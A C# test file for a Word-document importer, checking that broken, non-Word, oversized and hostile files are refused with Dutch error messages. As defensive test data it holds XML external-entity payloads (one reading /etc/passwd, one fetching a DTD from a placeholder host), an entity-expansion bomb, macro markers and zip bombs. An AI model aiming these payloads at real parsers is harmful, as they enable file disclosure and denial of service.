using System.IO.Compression;
using System.Text;
using Toolbox.Content.Pages;
using Toolbox.Importing;

namespace Toolbox.Tests.Importing;

/// <summary>A file that somebody sent may be anything: it is refused with a reason, and nothing in it is run, fetched or unpacked.</summary>
public sealed class BadWordFileTests
{
    private const string Damaged = "dit Word-bestand is beschadigd. Vraag het opnieuw, of open het in Word en bewaar het opnieuw.";
    private const string NotWord = "dit is geen Word-bestand. Open het in het programma waarmee het is gemaakt, en bewaar het als Word-document (.docx).";
    private const string TooLargeInside = "uitgepakt is dit bestand groter dan 200 MiB. Zo groot is geen ingevuld formulier.";

    [Theory]
    [InlineData("")]
    [InlineData("P")]
    [InlineData("%PDF-1.7 een pdf")]
    [InlineData("<html>een pagina</html>")]
    [InlineData("{\\rtf1 een brief}")]
    public void What_is_no_Word_file_is_refused(string text) => Assert.Equal(NotWord, ImportTest.Refusal(Encoding.UTF8.GetBytes(text)));

    [Fact]
    public void Another_kind_of_zip_is_no_Word_file()
    {
        Assert.Equal(NotWord, ImportTest.Refusal(Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a/>"))));
        Assert.Equal(NotWord, ImportTest.Refusal(Zip(("_rels/.rels", Relationships("xl/workbook.xml")), ("xl/workbook.xml", "<a/>"))));
        Assert.Equal(NotWord, ImportTest.Refusal(Zip(("_rels/.rels", Relationships("word/document.xml")))));
    }

    [Fact]
    public void A_password_and_an_old_Word_are_told_apart()
    {
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

        Assert.Equal("dit bestand heeft een wachtwoord. Vraag het zonder wachtwoord.", ImportTest.Refusal([.. ole, .. Encoding.Unicode.GetBytes("EncryptedPackage")]));
        Assert.Equal("dit is een bestand van een oude Word (.doc). Open het in Word en bewaar het als Word-document (.docx).", ImportTest.Refusal([.. ole, .. Encoding.Unicode.GetBytes("WordDocument")]));
    }

    [Fact]
    public void A_file_that_broke_on_its_way_is_damaged()
    {
        var whole = Whole();

        Assert.Equal(Damaged, ImportTest.Refusal(whole[..(whole.Length / 2)]));
        Assert.Equal(Damaged, ImportTest.Refusal([.. "PK"u8, .. new byte[100]]));
        Assert.Equal(Damaged, ImportTest.Refusal(Changed("word/document.xml", xml => xml[..(xml.Length / 2)])));
        Assert.Equal(Damaged, ImportTest.Refusal(Changed("word/document.xml", _ => "")));
    }

    [Fact]
    public void Every_cut_of_a_file_is_refused_or_read_and_never_crashes()
    {
        var whole = Whole();

        for (var length = 0; length < whole.Length; length += 97)
        {
            Assert.NotNull(ImportTest.Refusal(whole[..length]));
        }
    }

    [Fact]
    public void Any_byte_may_be_wrong()
    {
        var whole = Whole();
        var random = new Random(9);

        for (var attempt = 0; attempt < 60; attempt++)
        {
            var broken = whole.ToArray();
            for (var change = 0; change < 3; change++)
            {
                broken[random.Next(broken.Length)] ^= (byte)random.Next(1, 256);
            }

            var import = ImportTest.Import(broken);
            Assert.True(import.Refusal is not null || import.Text.Length > 0 || import.Notes.Length > 0);
        }
    }

    [Theory]
    [InlineData("word/vbaProject.bin", "Sub AutoOpen()")]
    [InlineData("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>""")]
    public void Macros_are_refused(string part, string text) =>
        Assert.Equal("in dit bestand zitten macro's. Vraag het als gewoon Word-document (.docx).", ImportTest.Refusal(Changed(part, _ => text)));

    [Theory]
    [InlineData("<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\">]>")]
    [InlineData("<!DOCTYPE w:document SYSTEM \"file:///etc/passwd\">")]
    [InlineData("<!DOCTYPE w:document [<!ENTITY % x SYSTEM \"https://elders.example/x.dtd\"> %x;]>")]
    public void Definitions_are_refused_and_never_followed(string definitions) => Assert.Equal(
        "in dit bestand staan definities (DTD), die Word zelf nooit schrijft. Open het in Word en bewaar het opnieuw.",
        ImportTest.Refusal(Changed("word/document.xml", xml => xml.Insert(xml.IndexOf("?>", StringComparison.Ordinal) + 2, definitions))));

    [Fact]
    public void A_file_of_a_hundred_megabytes_is_refused_before_it_is_read()
    {
        using var file = new LargeStream(100L * 1024 * 1024);

        var import = WordImport.Of(file, PageType.WorkForm, ImportTest.Input, new DateOnly(2026, 11, 22));

        Assert.Equal("dit bestand is groter dan 25 MiB. Haal de afbeeldingen eruit en stuur die los mee.", import.Refusal!.Nl);
        Assert.False(file.WasRead);
    }

    [Fact]
    public void A_small_file_that_unpacks_to_a_large_one_is_refused()
    {
        var picture = Zip(("word/media/image1.png", "a", 1), Filler("word/media/image2.png", 210));
        var text = Zip(("_rels/.rels", Relationships("word/document.xml"), 1), Filler("word/document.xml", 11));

        Assert.True(picture.Length < 1024 * 1024);
        Assert.Equal(TooLargeInside, ImportTest.Refusal(picture));
        Assert.Equal(TooLargeInside, ImportTest.Refusal(text));
    }

    [Fact]
    public void A_zip_that_lies_about_its_size_is_not_believed()
    {
        var file = Zip(("_rels/.rels", Relationships("word/document.xml"), 1), Filler("word/document.xml", 11));

        // The size in the list of entries at the end: eleven megabytes become one byte.
        var size = BitConverter.GetBytes(11 * 1024 * 1024);
        var at = file.AsSpan().LastIndexOf(size);
        BitConverter.GetBytes(1).CopyTo(file, at);

        Assert.Contains(ImportTest.Refusal(file), new[] { TooLargeInside, Damaged });
    }

    [Fact]
    public void A_document_that_goes_too_deep_is_refused()
    {
        var deep = Changed("word/document.xml", xml => xml.Insert(xml.IndexOf("<w:body>", StringComparison.Ordinal) + "<w:body>".Length, Nested(5000)));

        Assert.Equal(Damaged, ImportTest.Refusal(deep));

        static string Nested(int levels) => string.Concat(Enumerable.Repeat("<w:ins>", levels)) + string.Concat(Enumerable.Repeat("</w:ins>", levels));
    }

    [Theory]
    [InlineData("_")]
    [InlineData("a:____")]
    [InlineData("- ")]
    [InlineData("1 uur ")]
    [InlineData("{*[_")]
    public void Text_that_goes_on_and_on_is_read(string text)
    {
        using var form = ImportTest.Complete();
        var line = string.Concat(Enumerable.Repeat(text, 40_000)) + "!";
        form.FillWith("worksheet.blad", FormInWord.Line(line)).FillWith("tekst", FormInWord.Line(line)).Fill("preparation.minutes", line).FillWith("sources", FormInWord.Line(line));

        Assert.NotNull(ImportTest.Import(form).Path);
    }

    [Fact]
    public void The_form_of_another_type_says_so()
    {
        using var form = ImportTest.Empty(PageType.Checklist);

        Assert.Equal("dit is het formulier voor 'checklist', niet voor 'werkvorm'. Gebruik --type checklist.", ImportTest.Refusal(form.Save()));
    }

    private static byte[] Whole()
    {
        using var form = ImportTest.Complete();
        return form.Save();
    }

    // The complete form with one part changed, or added.
    private static byte[] Changed(string part, Func<string, string> change)
    {
        using var bytes = new MemoryStream();
        bytes.Write(Whole());
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            var text = "";
            if (zip.GetEntry(part) is { } entry)
            {
                using (var reader = new StreamReader(entry.Open()))
                {
                    text = reader.ReadToEnd();
                }

                entry.Delete();
            }

            using var writer = new StreamWriter(zip.CreateEntry(part).Open());
            writer.Write(change(text));
        }

        return bytes.ToArray();
    }

    private static byte[] Zip(params (string Name, string Text)[] parts) => Zip([.. parts.Select(p => (p.Name, p.Text, Times: 1))]);

    private static byte[] Zip(params (string Name, string Text, int Times)[] parts)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text, times) in parts)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                for (var time = 0; time < times; time++)
                {
                    writer.Write(text);
                }
            }
        }

        return bytes.ToArray();
    }

    private static (string Name, string Text, int Times) Filler(string name, int megabytes) => (name, new string(' ', 1024 * 1024), megabytes);

    private static string Relationships(string target) =>
        $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{target}"/></Relationships>""";

    private sealed class LargeStream(long length) : Stream
    {
        public bool WasRead { get; private set; }

        public override bool CanRead => true;

        public override bool CanSeek => true;

        public override bool CanWrite => false;

        public override long Length => length;

        public override long Position { get; set; }

        public override void Flush()
        {
        }

        public override int Read(byte[] buffer, int offset, int count)
        {
            WasRead = true;
            return count;
        }

        public override long Seek(long offset, SeekOrigin origin) => Position = offset;

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
